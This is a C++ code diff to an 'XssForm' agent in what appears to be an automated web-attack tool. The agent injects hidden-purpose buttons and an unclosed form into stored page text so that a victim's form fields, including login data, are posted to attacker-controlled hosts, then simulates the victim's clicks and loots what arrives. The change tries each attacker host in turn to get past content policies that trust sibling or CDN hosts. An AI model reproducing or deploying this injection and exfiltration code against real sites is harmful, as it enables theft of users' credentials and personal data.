@@ -12,29 +12,54 @@ namespace {
 
 class XssForm final : public Agent {
     void run(Target& target) override {
-        OwnHost* evil = foreign_host(target);
-        if (evil == nullptr || target.victim() == nullptr) return;
-        std::string const away = in_quotes(collecting_address(*evil));
+        if (target.hosts().empty() || target.victim() == nullptr) return;
         StoredText text(target);
-        std::vector<std::string> labels;
-        std::string buttons;
+        std::vector<std::string> forms;
         for (std::string const& page : text.pages())
             for (Tag const& tag : tags_in(page))
-                if (auto const id = tag.attribute("id"); id && tag.name == "form") {
-                    labels.push_back("Read more about " + random_word(target, 5));
-                    buttons += "<button form=" + in_quotes(*id) + " formaction=" + away +
-                               " formmethod=\"post\">" + labels.back() + "</button>";
-                }
-        if (!labels.empty()) text.leave(buttons);
+                if (auto const id = tag.attribute("id"); id && tag.name == "form")
+                    forms.push_back("form=" + in_quotes(*id));
+        std::vector<Buttons> const ways = buttons_to_each_host(target, forms);
+        if (!forms.empty()) text.leave(html_of(ways));
         if (!victim_signs_in(target)) return;
         victim_does(target, routines_option(target, option::kDoes));
-        for (std::string const& label : labels) click(target, label);
+        for (Buttons const& way : ways) {
+            for (std::string const& label : way.labels) click(target, label);
+            if (!received_texts(target).empty()) break;
+        }
         // A form that stays open: the page's own form within it is none, and its fields are his.
-        std::string const label = "Read more about " + random_word(target, 5);
-        text.leave("<form method=\"post\" action=" + away + "><button>" + label + "</button>");
+        std::vector<Buttons> const inside = buttons_to_each_host(target, {""});
+        text.leave("<form>" + html_of(inside));
         reads_again(target);
-        (void)target.victim()->clicks(label);
+        for (Buttons const& way : inside) (void)target.victim()->clicks(way.labels.front());
         try_loot(target, received_texts(target));
+    }
+
+    // To one of the attacker's hosts: a policy may trust a sibling, or a CDN as a whole.
+    struct Buttons {
+        std::string html;
+        std::vector<std::string> labels;
+    };
+
+    static std::vector<Buttons> buttons_to_each_host(Target& target,
+                                                     std::vector<std::string> const& forms) {
+        std::vector<Buttons> all;
+        for (OwnHost* host : target.hosts()) {
+            std::string const away = in_quotes(collecting_address(*host));
+            Buttons& to = all.emplace_back();
+            for (std::string const& form : forms) {
+                to.labels.push_back("Read more about " + random_word(target, 5));
+                to.html += "<button " + form + " formaction=" + away + " formmethod=\"post\">" +
+                           to.labels.back() + "</button>";
+            }
+        }
+        return all;
+    }
+
+    static std::string html_of(std::vector<Buttons> const& ways) {
+        std::string html;
+        for (Buttons const& way : ways) html += way.html;
+        return html;
     }
 
     // Where the page with the buttons is gone he comes back to it.
